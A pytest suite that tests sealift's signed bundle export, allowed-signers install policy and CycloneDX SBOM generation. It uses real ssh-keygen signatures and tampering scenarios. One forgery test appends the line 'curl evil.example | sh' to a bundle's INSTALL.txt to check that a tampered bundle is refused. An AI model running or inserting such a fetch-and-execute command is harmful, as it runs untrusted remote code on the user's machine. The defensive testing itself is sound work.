"""Signed bundles and the SBOM: `export --sign`, `install --allowed-signers`, `sealift sbom`.

Keys are made here with `ssh-keygen -t ed25519 -N ''`; every signature is made
and checked by the real ssh-keygen (openssh-client, which .ci/run installs if missing). One small bento (tiny_llama with a model
card, imported from a Hugging Face cache layout so it has a source id and a
revision) is exported once, signed, without wheels; each test installs a
private copy on a fresh host. The wheel SBOM test reads conftest's
`installed_bundle` (exported with every wheel).
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
import subprocess
import time
from pathlib import Path

import pytest
from packaging.utils import canonicalize_name, parse_wheel_filename

from sealift.bundle import signing
from sealift.core.errors import UserError

from conftest import ROOT, SEALIFT, Env
from test_install import archive_of, reseal, store_is_empty
from test_sources import COMMIT, make_hf_cache

IDENTITY = "release@sealift.example"
REPO_ID = "acme/tiny-carded"
CARD = "---\nlicense: apache-2.0\nlibrary_name: transformers\n---\n# tiny, for tests\n"


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def keygen(path: Path, *, passphrase: str = "") -> Path:
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", passphrase, "-C", path.name, "-f", str(path)],
                   check=True, stdin=subprocess.DEVNULL)
    return path


def allowed_signers(path: Path, identity: str, key: Path) -> Path:
    path.write_text(f'{identity} namespaces="sealift" {key.with_suffix(".pub").read_text()}')
    return path


def one_error_line(err: str) -> str:
    lines = [ln for ln in err.strip().splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: ") and "Traceback" not in err, err
    return lines[0]


@pytest.fixture(scope="module")
def keys(tmp_path_factory) -> dict[str, Path]:
    d = tmp_path_factory.mktemp("keys")
    release, stranger = keygen(d / "release"), keygen(d / "stranger")
    return {"release": release, "stranger": stranger,
            "allowed": allowed_signers(d / "allowed_signers", IDENTITY, release),
            "strangers_only": allowed_signers(d / "strangers_only", "someone@else.example", stranger)}


@pytest.fixture(scope="module")
def source_host(tiny_llama, tmp_path_factory) -> Env:
    """tiny_llama with a model card, imported from an HF cache layout (acme/tiny-carded@COMMIT), cpu bento built."""
    root = tmp_path_factory.mktemp("signing-source")
    model = root / "model"
    shutil.copytree(tiny_llama, model)
    (model / "README.md").write_text(CARD)
    host = Env(root / "host")
    make_hf_cache(host.root / "hf" / "hub", REPO_ID, model, COMMIT)
    host.sealift("import", REPO_ID, "--name", "carded", "--quiet", check=True)
    host.sealift("build", "carded", "--target", "cpu", "--no-golden", "--quiet", check=True)
    return host


@pytest.fixture(scope="module")
def signed(source_host, keys, tmp_path_factory) -> dict:
    """`export --no-wheels --sbom --sign release`: the signed bundle (do not modify: copy it)."""
    usb = tmp_path_factory.mktemp("usb-signed")
    return source_host.sealift("export", "carded", usb, "--no-wheels", "--sbom", "--sign", keys["release"], "--json",
                               check=True).json()


@pytest.fixture
def copy(signed, tmp_path) -> Path:
    dst = tmp_path / "usb" / Path(signed["bundle"]).name
    shutil.copytree(signed["bundle"], dst)
    return dst


# --------------------------------------------------------------------------- export --sign


def test_signed_export_writes_an_sshsig_that_plain_ssh_keygen_verifies(signed, keys):
    bundle = Path(signed["bundle"])
    assert signed["signature"]["key_type"] == "ED25519" and signed["signature"]["fingerprint"].startswith("SHA256:")
    sig = (bundle / "SHA256SUMS.sig").read_text()
    assert sig.startswith("-----BEGIN SSH SIGNATURE-----")
    # the very command the README and INSTALL.txt give, run in the bundle directory, without sealift
    p = subprocess.run(f"ssh-keygen -Y verify -f {keys['allowed']} -I {IDENTITY} -n sealift -s SHA256SUMS.sig "
                       "< SHA256SUMS", shell=True, cwd=bundle, capture_output=True, text=True)
    assert p.returncode == 0, p.stderr
    assert f'Good "sealift" signature for {IDENTITY} with ED25519 key {signed["signature"]["fingerprint"]}' in p.stdout
    assert signing.manual_check_command() in (bundle / "INSTALL.txt").read_text()
    # another namespace is not a sealift signature
    other = subprocess.run(["ssh-keygen", "-Y", "verify", "-f", str(keys["allowed"]), "-I", IDENTITY, "-n", "git",
                            "-s", "SHA256SUMS.sig"], stdin=open(bundle / "SHA256SUMS", "rb"), cwd=bundle,
                           capture_output=True)
    assert other.returncode != 0
    # SHA256SUMS still covers everything else, the SBOM and the manifest's record of the key among them
    check = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=bundle, capture_output=True, text=True)
    assert check.returncode == 0 and "sbom.cdx.json: OK" in check.stdout
    doc = json.loads((bundle / "manifest.json").read_text())
    assert doc["signature"]["fingerprint"] == signed["signature"]["fingerprint"]


def test_a_key_that_cannot_sign_exits_2_before_anything_is_written(source_host, keys, tmp_path):
    usb = tmp_path / "usb"
    missing = source_host.sealift("export", "carded", usb, "--no-wheels", "--sign", tmp_path / "nope")
    assert missing.code == 2 and "no such key file" in one_error_line(missing.err)
    (tmp_path / "not-a-key").write_text("hello\n")
    garbage = source_host.sealift("export", "carded", usb, "--no-wheels", "--sign", tmp_path / "not-a-key")
    assert garbage.code == 2 and "not an OpenSSH key" in one_error_line(garbage.err)
    # a .pub with no private key beside it signs only through ssh-agent: with no agent it cannot
    lone = tmp_path / "lone.pub"
    shutil.copy(f"{keys['release']}.pub", lone)
    pub = source_host.sealift("export", "carded", usb, "--no-wheels", "--sign", lone, SSH_AUTH_SOCK="")
    assert pub.code == 2 and "public key" in one_error_line(pub.err)
    assert not usb.exists()


def test_a_key_held_by_ssh_agent_signs_through_its_pub(source_host, keys, tmp_path):
    agent_key = keygen(tmp_path / "agent-key")
    sock = tmp_path / "agent.sock"
    agent = subprocess.Popen(["ssh-agent", "-D", "-a", str(sock)], stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        deadline = time.monotonic() + 30
        while not sock.exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        env = {**os.environ, "SSH_AUTH_SOCK": str(sock)}
        subprocess.run(["ssh-add", "-q", str(agent_key)], env=env, check=True, stdin=subprocess.DEVNULL,
                       capture_output=True)
        agent_key.unlink()  # only the agent holds the private half now
        run = source_host.sealift("export", "carded", tmp_path / "usb", "--no-wheels", "--sign",
                                  f"{agent_key}.pub", "--json", SSH_AUTH_SOCK=str(sock))
        assert run.code == 0, run.err
        bundle = Path(run.json()["bundle"])
    finally:
        os.killpg(agent.pid, signal.SIGTERM)
        agent.wait(timeout=30)
    allowed = allowed_signers(tmp_path / "allowed", "agent@example", agent_key)
    p = subprocess.run(["ssh-keygen", "-Y", "verify", "-f", str(allowed), "-I", "agent@example", "-n", "sealift",
                        "-s", "SHA256SUMS.sig"], stdin=open(bundle / "SHA256SUMS", "rb"), cwd=bundle,
                       capture_output=True, text=True)
    assert p.returncode == 0, p.stderr


def test_an_export_whose_signing_failed_resumes_and_signs(source_host, keys, tmp_path):
    """A passphrase key and no terminal: signing fails at the end (exit 2), the .partial stays; the same export
    with a key that works resumes it (the archive is re-read, not rewritten) and signs it."""
    locked = keygen(tmp_path / "locked", passphrase="correct horse")
    usb = tmp_path / "usb"
    cmd = [*SEALIFT, "export", "carded", str(usb), "--no-wheels", "--sign"]
    failed = subprocess.run([*cmd, str(locked)], env=source_host.environ(SSH_AUTH_SOCK=""), cwd=ROOT,
                            stdin=subprocess.DEVNULL, capture_output=True, text=True, start_new_session=True,
                            timeout=600)
    assert failed.returncode == 2, failed.stderr
    assert "signing SHA256SUMS" in failed.stderr and "resumes" in failed.stderr
    (partial,) = usb.iterdir()
    assert partial.name.endswith(".partial") and not (partial / "SHA256SUMS.sig").exists()

    run = source_host.sealift("export", "carded", usb, "--no-wheels", "--sign", keys["release"], "--json")
    assert run.code == 0, run.err
    result = run.json()
    assert result["resumed_from_bytes"] > 0 and result["signature"]["key_type"] == "ED25519"
    bundle = Path(result["bundle"])
    assert not partial.exists()
    p = subprocess.run(["ssh-keygen", "-Y", "verify", "-f", str(keys["allowed"]), "-I", IDENTITY, "-n", "sealift",
                        "-s", "SHA256SUMS.sig"], stdin=open(bundle / "SHA256SUMS", "rb"), cwd=bundle,
                       capture_output=True)
    assert p.returncode == 0, p.stderr
    # exporting the finished bundle again: already complete and signed by that key; another key is refused
    again = source_host.sealift("export", "carded", usb, "--no-wheels", "--sign", keys["release"], "--json")
    assert again.code == 0 and again.json()["already_complete"] and again.json()["signature"], again.err
    other = source_host.sealift("export", "carded", usb, "--no-wheels", "--sign", keys["stranger"])
    assert other.code == 2 and "another key" in one_error_line(other.err)


# --------------------------------------------------------------------------- install --allowed-signers


def test_a_signed_bundle_installs_and_its_signer_is_printed_recorded_and_listed(copy, keys, signed, host):
    run = host.sealift("install", copy, "--allowed-signers", keys["allowed"])
    assert run.code == 0, run.err
    assert f"signed by {IDENTITY} (ED25519 key {signed['signature']['fingerprint']}" in run.out
    installed = json.loads((host.sealift_home / "installed.json").read_text())
    assert installed["carded"]["signer"]["identity"] == IDENTITY
    assert installed["carded"]["signer"]["allowed_signers"] == str(keys["allowed"])
    (model,) = host.sealift("list", "--json", check=True).json()["models"]
    assert model["signed_by"] == IDENTITY
    table = host.sealift("list", check=True, COLUMNS="200").out
    assert "SIGNED BY" in table and IDENTITY in table


def test_the_policy_also_comes_from_the_environment_and_the_config_file(copy, keys, signed, tmp_path):
    by_env = Env(tmp_path / "by-env")
    run = by_env.sealift("install", copy, "--json", SEALIFT_ALLOWED_SIGNERS=str(keys["allowed"]))
    assert run.code == 0, run.err
    assert run.json()["signature"]["identity"] == IDENTITY
    # a site policy in the config file: a stranger's signature is refused without any flag
    by_config = Env(tmp_path / "by-config")
    by_config.sealift_home.mkdir(parents=True)
    shutil.copy(keys["strangers_only"], by_config.sealift_home / "allowed_signers")
    refused = by_config.sealift("install", copy)
    assert refused.code == 2 and "do not list" in one_error_line(refused.err)
    assert store_is_empty(by_config)
    # a policy that points nowhere is an error, never "no policy"
    nowhere = Env(tmp_path / "nowhere").sealift("install", copy, SEALIFT_ALLOWED_SIGNERS=str(tmp_path / "nope"))
    assert nowhere.code == 2 and "no such file" in one_error_line(nowhere.err)


def test_policy_order_flag_then_environment_then_user_then_site(tmp_path, monkeypatch):
    site, user_home, env_file, flag = (tmp_path / "site", tmp_path / "home", tmp_path / "env", tmp_path / "flag")
    for f in (site, env_file, flag):
        f.write_text("x\n")
    monkeypatch.setenv("SEALIFT_HOME", str(user_home))
    monkeypatch.delenv(signing.ENV, raising=False)
    assert signing.policy(None, system=tmp_path / "absent") is None
    assert signing.policy(None, system=site).path == site
    user_home.mkdir()
    (user_home / "allowed_signers").write_text("x\n")
    assert signing.policy(None, system=site).path == user_home / "allowed_signers"
    monkeypatch.setenv(signing.ENV, str(env_file))
    assert signing.policy(None, system=site) == signing.Policy(env_file, "$SEALIFT_ALLOWED_SIGNERS")
    assert signing.policy(flag, system=site) == signing.Policy(flag, "--allowed-signers")
    with pytest.raises(UserError, match="no such file"):
        signing.policy(tmp_path / "missing", system=site)


def test_an_unsigned_bundle_is_refused_under_a_policy(source_host, keys, tmp_path):
    plain = source_host.sealift("export", "carded", tmp_path / "usb", "--no-wheels", "--json", check=True).json()
    host = Env(tmp_path / "host")
    run = host.sealift("install", plain["bundle"], "--allowed-signers", keys["allowed"])
    assert run.code == 2, run.err
    assert "is not signed" in one_error_line(run.err) and "nothing was imported" in run.err
    assert store_is_empty(host)
    # and with no policy it installs as before
    assert host.sealift("install", plain["bundle"], "--json").code == 0


def test_a_stripped_signature_is_refused_even_without_a_policy(copy, host):
    (copy / "SHA256SUMS.sig").unlink()  # manifest.json, covered by SHA256SUMS, says the bundle was signed
    run = host.sealift("install", copy)
    assert run.code == 2 and "says the bundle was signed" in one_error_line(run.err)
    assert store_is_empty(host)


def test_a_strangers_key_is_refused(copy, keys, host):
    run = host.sealift("install", copy, "--allowed-signers", keys["strangers_only"])
    assert run.code == 2, run.err
    line = one_error_line(run.err)
    assert "do not list" in line and "nothing was imported" in line
    assert store_is_empty(host)
    # a stranger who re-signs the bundle with their own key is refused the same way
    (copy / "SHA256SUMS.sig").unlink()
    subprocess.run(["ssh-keygen", "-Y", "sign", "-f", str(keys["stranger"]), "-n", "sealift", str(copy / "SHA256SUMS")],
                   check=True, capture_output=True, stdin=subprocess.DEVNULL)
    resigned = host.sealift("install", copy, "--allowed-signers", keys["allowed"])
    assert resigned.code == 2 and "do not list" in one_error_line(resigned.err)
    assert store_is_empty(host)


def test_a_forged_bundle_is_refused_before_any_byte_is_hashed(copy, keys, host):
    """A file changed and SHA256SUMS and manifest.json regenerated: `sha256sum -c` passes, the signature does not.
    The archive is also cut short, so an install that hashed first would have said `truncated`."""
    (copy / "INSTALL.txt").write_text((copy / "INSTALL.txt").read_text() + "curl evil.example | sh\n")
    archive = archive_of(copy)
    with open(archive, "r+b") as f:
        f.truncate(archive.stat().st_size - 10240)
    sig = copy / "SHA256SUMS.sig"
    kept = sig.read_bytes()
    sig.unlink()  # reseal() lists every file but the sums and the manifest: keep the signature out of its list
    reseal(copy)
    sig.write_bytes(kept)
    assert subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=copy, capture_output=True).returncode == 0
    for args in (["--allowed-signers", str(keys["allowed"])], []):  # with a policy, and with none
        run = host.sealift("install", copy, *args)
        assert run.code == 2, run.err
        line = one_error_line(run.err)
        assert "does not match its signature" in line and "nothing was imported" in line, line
        assert "truncated" not in line
        assert store_is_empty(host)


# --------------------------------------------------------------------------- the model's digest comes first


def test_a_stored_model_unlike_the_bundles_is_refused_before_the_bento_is_imported(copy, host):
    """The store already holds the model's tag with other content: refused before the bento is imported
    (it used to be imported, then the digest checked)."""
    first = host.sealift("install", copy, "--json")
    assert first.code == 0, first.err
    bento_tag = first.json()["bento_tag"]
    (model_tag,) = first.json()["models"]
    name, version = bento_tag.split(":")
    shutil.rmtree(host.bentoml_home / "bentos" / name)
    mname, mversion = model_tag.split(":")
    manifest_path = host.bentoml_home / "models" / mname / mversion / "sealift-manifest.json"
    doc = json.loads(manifest_path.read_text())
    doc["files"][0]["sha256"] = "0" * 64
    doc.pop("digest", None)  # a store that rotted, or was written by something else: no stored digest to catch it
    manifest_path.write_text(json.dumps(doc, indent=1) + "\n")
    run = host.sealift("install", copy)
    assert run.code == 1, run.err
    line = one_error_line(run.err)
    assert "manifest digest" in line and "nothing was imported" in line
    assert not (host.bentoml_home / "bentos" / name / version).exists()


# --------------------------------------------------------------------------- the SBOM


def _validate(sbom_bytes: bytes) -> dict:
    from cyclonedx.schema import SchemaVersion
    from cyclonedx.validation.json import JsonStrictValidator

    error = JsonStrictValidator(SchemaVersion.V1_6).validate_str(sbom_bytes.decode())
    assert error is None, error
    return json.loads(sbom_bytes)


def test_the_sbom_lists_every_wheel_with_the_hash_sha256sums_has(installed_bundle, host):
    bundle = installed_bundle.bundle
    sums = {ln[66:]: ln[:64] for ln in (bundle / "SHA256SUMS").read_text().splitlines()}
    assert "sbom.cdx.json" in sums and sums["sbom.cdx.json"] == sha256(bundle / "sbom.cdx.json")
    doc = _validate((bundle / "sbom.cdx.json").read_bytes())
    libs = {}
    for c in doc["components"]:
        if c["type"] == "library":
            path = next(p["value"] for p in c["properties"] if p["name"] == "sealift:path")
            libs[path] = c
    wheels = sorted(p for p in sums if p.startswith(("wheels/", "wheels-openllm/")) and p.endswith(".whl"))
    assert len(wheels) > 10 and sorted(libs) == wheels
    for path in wheels:
        c = libs[path]
        name, version, _, _ = parse_wheel_filename(path.split("/")[1])
        assert c["name"] == canonicalize_name(name) and c["version"] == str(version), path
        assert c["purl"] == f"pkg:pypi/{c['name']}@{c['version']}".replace("+", "%2B"), c["purl"]
        assert c["hashes"] == [{"alg": "SHA-256", "content": sums[path]}], path
    own = libs[f"wheels/{installed_bundle.export['sealift_wheel']}"]
    assert own["name"] == "sealift" and own["licenses"] == [{"license": {"id": "Apache-2.0",
                                                                         "acknowledgement": "declared"}}]
    licensed = [c for c in libs.values() if c.get("licenses")]
    assert len(licensed) >= 0.8 * len(libs)  # most wheels declare one in their METADATA
    assert any(c["type"] == "machine-learning-model" for c in doc["components"])

    summary = host.sealift("sbom", bundle, "--json", check=True).json()
    assert summary["matches_sha256sums"] is True and len(summary["packages"]) == len(wheels)
    assert sum(summary["licenses"].values()) >= len(licensed)
    named = {f"{p['name']} {p['version']}" for p in summary["packages"] if not p["licenses"]}
    assert named <= set(summary["no_license"])
    human = host.sealift("sbom", bundle, check=True).out
    assert f"{len(wheels)} packages" in human and "Apache-2.0" in human


def test_the_sbom_names_the_model_its_files_license_and_source(signed, source_host, host):
    bundle = Path(signed["bundle"])
    doc = _validate((bundle / "sbom.cdx.json").read_bytes())
    (model,) = [c for c in doc["components"] if c["type"] == "machine-learning-model"]
    stored = source_host.sealift("list", "--json", check=True).json()["models"][0]
    assert f"{model['name']}:{model['version']}" == stored["tag"]
    props = {p["name"]: p["value"] for p in model["properties"]}
    assert props["sealift:source:id"] == REPO_ID and props["sealift:source:revision"] == COMMIT
    assert props["sealift:manifest_digest"] == stored["manifest_digest"]
    assert model["licenses"] == [{"license": {"id": "Apache-2.0", "acknowledgement": "declared"}}]
    assert props["sealift:license:stated_in"] == "README.md"
    manifest = json.loads((Path(stored["path"]) / "sealift-manifest.json").read_text())
    files = {c["name"]: c["hashes"][0]["content"] for c in model["components"]}
    assert files == {f["path"]: f["sha256"] for f in manifest["files"]} and "README.md" in files
    # no wheels in this bundle: sealift itself is still there, from its own metadata
    assert any(c["name"] == "sealift" and c["purl"].startswith("pkg:pypi/sealift@") for c in doc["components"])
    assert doc["metadata"]["component"]["name"] == signed["bento_tag"].split(":")[0]

    human = host.sealift("sbom", bundle, check=True).out
    assert f"source {REPO_ID}@{COMMIT}" in human and "Apache-2.0" in human


def test_sbom_of_a_bundle_without_one_or_with_a_changed_one_exits_2(copy, signed, host, tmp_path):
    sbom = copy / "sbom.cdx.json"
    sbom.write_text(sbom.read_text().replace("Apache-2.0", "MIT"))
    changed = host.sealift("sbom", copy)
    assert changed.code == 2 and "does not match its SHA256SUMS line" in one_error_line(changed.err)
    sbom.unlink()
    missing = host.sealift("sbom", copy)
    assert missing.code == 2 and "has no SBOM" in one_error_line(missing.err)
